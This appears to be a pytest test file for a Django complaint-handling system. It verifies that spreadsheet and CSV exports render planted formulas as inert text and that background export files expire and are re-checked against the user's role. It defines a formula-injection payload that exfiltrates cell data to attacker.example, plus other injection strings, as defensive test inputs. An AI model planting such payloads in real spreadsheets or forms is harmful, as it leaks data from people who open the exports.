"""Issue 12, items 10 and 15: exports never carry a live formula, and background export files expire and go
only to someone who still holds the statistics role and reach that made them.

Item 10 plants spreadsheet formulas where the public and staff type text (a public report's summary, place and
subject; a staff report's summary, allegation and subject; an accountability target's name; a commission's
name) and reads every export back: XLSX with openpyxl and as raw sheet XML, CSV as text.
"""

import csv
import datetime
import io
import os
import re
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.http import urlencode
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts import services as account_services
from accounts.models import Membership
from accounts.roles import Role
from audit.models import AuditEvent
from cases.choices import Category, Finding, Rank, SubjectKind
from cases.models import Report
from cases.services import AllegationInput, SubjectInput
from clarification import services as clarification_services
from stats import services
from stats.models import ExportJob, ExportStatus

from .cases_helpers import register, to_concluded
from .clarification_helpers import draft, execute, reviewers, to_approved
from .factories import member
from .stats_helpers import period_params
from .test_accountability_workflow import FIRST_FORM, initiate, person, to_proposed
from .test_public_intake import fresh_cache, submit  # noqa: F401 - fresh_cache: a cache namespace per test

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A5,"点击查看附件")'
TAB = "\t=1+2"
RISKY = ("=", "+", "-", "@", "\t", "\r")
FORMULA_XML = re.compile(r"<f[\s>/]")


@pytest.fixture
def planted(client, tree, zhanyi_intake, zhanyi_supervisor, zhanyi_investigator):
    """Formulas typed wherever the public and the staff type text, each reaching at least one export."""
    zhanyi = tree["zhanyi"]
    # Commission names as an administrator types them (no form strips them): they head the statistics and the
    # roster, and fill a column of every list.
    account_services.commission_update(commission=zhanyi, name_zh=HYPERLINK, name_en=HYPERLINK)
    account_services.commission_update(commission=tree["qujing"], name_zh=TAB, name_en=TAB)
    # The public form: the summary, the scan-a-code place and the subject.
    response = submit(client, place="@SUM(A1)", summary=HYPERLINK, subjects=[("person", "+cmd", "-2+3", "@SUM(A1)")])
    assert response.status_code == 200
    public = Report.objects.get(summary=HYPERLINK)
    assert public.place == "@SUM(A1)"
    # A staff registration, concluded and clarified into the monthly batch.
    staff = register(
        zhanyi_intake,
        zhanyi,
        summary="-2+3",
        allegations=[
            AllegationInput(
                text="@SUM(A1)",
                category=Category.INTEGRITY,
                new_subject=SubjectInput(
                    kind=SubjectKind.PERSON, name="+cmd", unit="-2+3", position="科员", rank=Rank.TOWNSHIP_SECTION
                ),
            )
        ],
    ).report
    to_concluded(staff, zhanyi_supervisor, zhanyi_investigator, findings=(Finding.UNSUBSTANTIATED,))
    offices = reviewers(zhanyi, "zy")
    recommendation = to_approved(
        draft(staff, zhanyi_investigator, name="+cmd"), zhanyi_investigator, offices, zhanyi_supervisor
    )
    batch = clarification_services.batch_build(city=tree["qujing"], month=timezone.localdate(), actor=None)
    execute(recommendation, zhanyi_investigator)  # counted by commission in the statistics
    # An accountability decision about a person whose name is a formula.
    case = initiate(zhanyi_supervisor, zhanyi, [person(zhanyi, name="-2+3")])
    for decision in to_proposed(zhanyi_supervisor, case, FIRST_FORM):
        from accountability import services as accountability_services

        accountability_services.decision_approve(actor=zhanyi_supervisor, decision=decision)
    return {"public": public, "staff": staff, "recommendation": recommendation, "batch": batch}


# Per export, the planted texts that each fill one cell on their own.
EXPECTED = {
    "reports": [HYPERLINK, "-2+3", "@SUM(A1)", "+cmd"],
    "clarifications": [HYPERLINK, "+cmd"],
    "decisions": [HYPERLINK, "-2+3"],
}


def _url(name, *args, **params):
    return reverse(name, args=args) + ("?" + urlencode(params) if params else "")


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_xlsx_inert(content: bytes, expected: list[str]) -> list[list]:
    """No formula anywhere in the sheet XML; every text cell is a string cell; each planted text is kept as typed.
    Returns the values of every sheet's rows."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            assert not FORMULA_XML.search(archive.read(name).decode("utf-8")), f"a formula in {name}"
    book = load_workbook(io.BytesIO(content))
    texts, rows = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            rows.append([cell.value for cell in row])
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
                    if cell.value.startswith(RISKY):
                        # Excel keeps the cell text even when someone edits it (the apostrophe it adds itself).
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    for value in expected:
        assert value in texts, value
    return rows


def assert_csv_inert(content: bytes, expected: list[str]) -> list[list[str]]:
    """No cell starts with = + - @, a tab or a carriage return; each planted text is there behind an apostrophe."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(RISKY)]
    for value in expected:
        assert "'" + value in cells, value
    return rows


# --- item 10: exports carry no live formula --------------------------------------------------------------------


def test_statistics_exports_write_a_formula_commission_name_as_text(client, planted, tree, qujing_supervisor):
    client.force_login(qujing_supervisor)
    xlsx = client.get(_url("stats:statistics-export", tree["qujing"].pk, "xlsx", **period_params()))
    assert xlsx.status_code == 200
    rows = assert_xlsx_inert(_body(xlsx), [HYPERLINK, TAB])
    # Figures stay numbers: the row of the planted commission carries its counts as numeric cells.
    zhanyi_rows = [row for row in rows if HYPERLINK in row and any(isinstance(v, int) for v in row)]
    assert zhanyi_rows
    csv_response = client.get(_url("stats:statistics-export", tree["qujing"].pk, "csv", **period_params()))
    assert csv_response.status_code == 200
    rows = assert_csv_inert(_body(csv_response), [HYPERLINK, TAB])
    zhanyi_rows = [row for row in rows if "'" + HYPERLINK in row]
    assert zhanyi_rows and all(re.fullmatch(r"\d+", row[-1]) for row in zhanyi_rows)  # numbers unquoted


@pytest.mark.parametrize("kind", ["reports", "clarifications", "decisions"])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_list_exports_write_planted_formulas_as_text(client, planted, qujing_supervisor, kind, fmt):
    client.force_login(qujing_supervisor)
    response = client.get(_url("stats:list-export", kind, fmt))
    assert response.status_code == 200
    if fmt == "xlsx":
        rows = assert_xlsx_inert(_body(response), EXPECTED[kind])
        if kind == "reports":  # the number of allegations stays a number
            assert any(isinstance(v, int) for row in rows[3:] for v in row)
    else:
        rows = assert_csv_inert(_body(response), EXPECTED[kind])
        if kind == "reports":
            assert all(re.fullmatch(r"\d+", row[15]) for row in rows[3:])


def test_batch_roster_writes_planted_formulas_as_text(client, planted, tree, qujing_supervisor):
    client.force_login(qujing_supervisor)
    response = client.get(reverse("clarification:batch-xlsx", args=[planted["batch"].pk]))
    assert response.status_code == 200
    rows = assert_xlsx_inert(_body(response), [HYPERLINK, TAB, "+cmd", "-2+3科员", "@SUM(A1)"])
    assert any(isinstance(v, int) for v in rows[-1])  # the totals stay numbers


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_background_export_writes_planted_formulas_as_text(
    client, planted, qujing_supervisor, fmt, django_capture_on_commit_callbacks
):
    client.force_login(qujing_supervisor)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("stats:export-start"), {"kind": "reports", "fmt": fmt, "query": ""})
    job = ExportJob.objects.get()
    assert job.status == ExportStatus.DONE  # written by the task
    response = client.get(reverse("stats:export-download", args=[job.pk]))
    assert response.status_code == 200
    if fmt == "xlsx":
        assert_xlsx_inert(_body(response), EXPECTED["reports"])
    else:
        assert_csv_inert(_body(response), EXPECTED["reports"])


def test_csv_cell_neutralises_text_only():
    from core.spreadsheets import csv_cell, csv_row

    for text in (HYPERLINK, "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-"):
        assert csv_cell(text) == "'" + text
    for kept in ("王某", "", "a=b", "3", " =1"):
        assert csv_cell(kept) == kept
    for number in (3, -3, -2.5, 0, None):
        assert csv_cell(number) == number
    row = [HYPERLINK, "王某", -3, None, 2.5, "-2+3", translation.gettext_lazy("=lazy"), datetime.date(2026, 1, 2)]
    assert (
        csv_row(row)
        == [csv_cell(v) for v in row]
        == ["'" + HYPERLINK, "王某", -3, None, 2.5, "'-2+3", "'=lazy", "2026-01-02"]
    )


# --- item 15: background export files expire, and the role is checked again at download -----------------------


@pytest.fixture
def private_root(settings, tmp_path):
    """A private file root of this test's own, so the sweep of old files touches nothing of another test."""
    settings.PRIVATE_FILES_ROOT = tmp_path
    return tmp_path


def _start(client, user, capture, fmt="csv") -> ExportJob:
    client.force_login(user)
    with capture(execute=True):
        response = client.post(reverse("stats:export-start"), {"kind": "reports", "fmt": fmt, "query": ""})
    assert response.status_code == 302
    job = ExportJob.objects.get(owner=user)
    assert job.status == ExportStatus.DONE
    return job


def _age(job: ExportJob, days: int) -> None:
    """Move the job back in time, as if it had finished `days` days ago."""
    then = timezone.now() - datetime.timedelta(days=days)
    ExportJob.objects.filter(pk=job.pk).update(created_at=then, finished_at=then)


def _downloads(job) -> int:
    return AuditEvent.objects.filter(action="stats.export_download", target_id=str(job.pk)).count()


def test_an_export_older_than_the_retention_answers_410_and_offers_no_link(
    client, private_root, qujing_supervisor, django_capture_on_commit_callbacks
):
    job = _start(client, qujing_supervisor, django_capture_on_commit_callbacks)
    page = client.get(reverse("stats:export-job", args=[job.pk])).content.decode()
    assert reverse("stats:export-download", args=[job.pk]) in page  # available for now
    _age(job, 8)  # past the 7 days of EXPORT_RETENTION_DAYS, before the daily job has run
    response = client.get(reverse("stats:export-download", args=[job.pk]))
    assert response.status_code == 410
    with translation.override("zh-hans"):
        message = translation.gettext("This export has expired and its file was deleted; start the export again.")
    assert message in response.content.decode()
    assert _downloads(job) == 0
    page = client.get(reverse("stats:export-job", args=[job.pk])).content.decode()
    assert reverse("stats:export-download", args=[job.pk]) not in page
    assert message in page
    api = APIClient()
    api.force_authenticate(qujing_supervisor)
    gone = api.get(f"/api/stats/exports/{job.pk}/download/")
    assert gone.status_code == 410 and gone.json()["code"] == "expired"
    assert _downloads(job) == 0


def test_the_daily_job_deletes_expired_files_once_and_audits_each(
    client, private_root, qujing_supervisor, zhanyi_supervisor, settings, django_capture_on_commit_callbacks
):
    from django_celery_beat.models import PeriodicTask

    from stats.tasks import expire_exports

    assert PeriodicTask.objects.filter(task="stats.tasks.expire_exports", enabled=True).exists()
    old = _start(client, qujing_supervisor, django_capture_on_commit_callbacks)
    fresh = _start(client, zhanyi_supervisor, django_capture_on_commit_callbacks, fmt="xlsx")
    old_file, fresh_file = private_root / old.file_path, private_root / fresh.file_path
    assert old_file.is_file() and fresh_file.is_file()
    _age(old, 8)
    _age(fresh, 6)

    assert expire_exports() == 1
    old.refresh_from_db()
    fresh.refresh_from_db()
    assert (old.status, old.file_path) == (ExportStatus.EXPIRED, "")
    assert not old_file.exists()
    assert fresh.status == ExportStatus.DONE and fresh_file.is_file()
    event = AuditEvent.objects.get(action="stats.export_expire")
    assert (event.target_id, event.actor) == (str(old.pk), None)
    client.force_login(qujing_supervisor)
    assert client.get(reverse("stats:export-download", args=[old.pk])).status_code == 410

    assert expire_exports() == 0  # a second run finds nothing to do
    assert AuditEvent.objects.filter(action="stats.export_expire").count() == 1

    # The retention is a setting; a plain date moves the clock.
    settings.EXPORT_RETENTION_DAYS = 30
    assert services.exports_expire(now=timezone.now() + datetime.timedelta(days=23)) == 0
    assert services.exports_expire(now=timezone.now() + datetime.timedelta(days=25)) == 1
    fresh.refresh_from_db()
    assert fresh.status == ExportStatus.EXPIRED and not fresh_file.exists()


def test_the_daily_job_deletes_old_files_left_by_a_killed_worker(private_root):
    folder = services.exports_dir()
    partial, recent = folder / "41-0123abcd.csv", folder / "42-4567cdef.xlsx"
    partial.write_text("half an export")
    recent.write_text("being written")
    week_ago = (timezone.now() - datetime.timedelta(days=8)).timestamp()
    os.utime(partial, (week_ago, week_ago))
    services.exports_expire()
    assert not partial.exists() and recent.exists()
    assert AuditEvent.objects.get(action="stats.export_files_delete").data["files"] == [partial.name]
    services.exports_expire()
    assert AuditEvent.objects.filter(action="stats.export_files_delete").count() == 1


def test_an_admin_whose_membership_was_removed_cannot_download_their_export(
    client, private_root, tree, qujing_admin, django_capture_on_commit_callbacks
):
    job = _start(client, qujing_admin, django_capture_on_commit_callbacks)
    membership = Membership.objects.get(user=qujing_admin, role=Role.ADMIN)
    account_services.membership_delete(membership=membership, actor=None)

    assert client.get(reverse("stats:export-download", args=[job.pk])).status_code == 404
    assert client.get(reverse("stats:export-job", args=[job.pk])).status_code == 404
    assert client.get(reverse("stats-export-list")).json()["results"] == []
    assert _downloads(job) == 0
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE and (private_root / job.file_path).is_file()  # nothing changed


def test_a_supervisor_moved_to_a_county_cannot_download_the_city_export(
    client, private_root, tree, qujing_supervisor, django_capture_on_commit_callbacks
):
    job = _start(client, qujing_supervisor, django_capture_on_commit_callbacks)
    membership = Membership.objects.get(user=qujing_supervisor, role=Role.SUPERVISOR)
    account_services.membership_delete(membership=membership, actor=None)
    member("qujing-supervisor", tree["zhanyi"], Role.SUPERVISOR)  # still a supervisor, now of one county only

    response = client.get(reverse("stats:export-download", args=[job.pk]))
    assert response.status_code == 404
    api = APIClient()
    api.force_authenticate(qujing_supervisor)
    assert api.get(f"/api/stats/exports/{job.pk}/download/").status_code == 404
    assert _downloads(job) == 0
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE and (private_root / job.file_path).is_file()


def test_an_export_whose_owner_lost_the_role_before_it_ran_fails_without_a_file(
    client, private_root, qujing_admin, django_capture_on_commit_callbacks
):
    client.force_login(qujing_admin)
    client.post(reverse("stats:export-start"), {"kind": "reports", "fmt": "csv", "query": ""})  # not run yet
    job = ExportJob.objects.get()
    Membership.objects.filter(user=qujing_admin).delete()
    services.export_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED and job.file_path == ""
    assert not list(services.exports_dir().iterdir())
